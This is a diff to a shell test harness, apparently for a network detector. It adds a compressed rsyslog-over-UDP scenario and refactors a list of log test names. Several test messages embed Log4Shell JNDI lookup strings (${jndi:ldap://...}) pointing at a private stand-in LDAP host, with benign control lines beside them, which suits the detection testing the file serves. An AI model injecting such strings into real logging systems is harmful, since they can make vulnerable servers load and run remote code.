@@ -44,12 +44,16 @@ rsyslog_scene rsyslog-udp "$rsyslog_udp" 'login of ${jndi:ldap://10.99.0.1:1389/
 rsyslog_scene rsyslog-tcp "$rsyslog_tcp" 'cannot close ${bracket' 'login of ${jndi:ldap://10.99.0.1:1389/counted} failed' 'bye'
 rsyslog_scene rsyslog-tcp-packed "$rsyslog_tcp ziplevel=\"9\"" \
     "login of \${jndi:ldap://10.99.0.1:1389/packed} failed$(printf ' %.0s' $(seq 100))"
+rsyslog_scene rsyslog-udp-packed "$rsyslog_udp ziplevel=\"9\"" \
+    "login of \${jndi:ldap://10.99.0.1:1389/zipped} failed$(printf ' %.0s' $(seq 100))"
 rsyslog_scene benign-rsyslog-udp "$rsyslog_udp" "${harmless_lines[@]}"
 rsyslog_scene benign-rsyslog-tcp "$rsyslog_tcp" "${harmless_lines[@]}"
 rsyslog_scene benign-rsyslog-tcp-packed "$rsyslog_tcp ziplevel=\"9\"" "${harmless_lines[@]/%/$(printf ' %.0s' $(seq 100))}"
 
-if wanted log4j-gelf-udp log4j-serialized log4j-syslog benign-log4j-gelf benign-log4j-serialized
-    benign-log4j-syslog gelf-udp gelf-udp-chunks benign-gelf; then
+log_names="log4j-gelf-udp log4j-serialized log4j-syslog benign-log4j-gelf benign-log4j-serialized benign-log4j-syslog gelf-udp
+    gelf-udp-chunks benign-gelf"
+# shellcheck disable=SC2086
+if wanted $log_names; then
     serve in 12201 python3 "$here/srv/udp_sink.py" 10.99.0.2 12201
     serve in 12202 python3 "$here/srv/tcp_sink.py" 10.99.0.2 12202
     serve in 514 python3 "$here/srv/udp_sink.py" 10.99.0.2 514
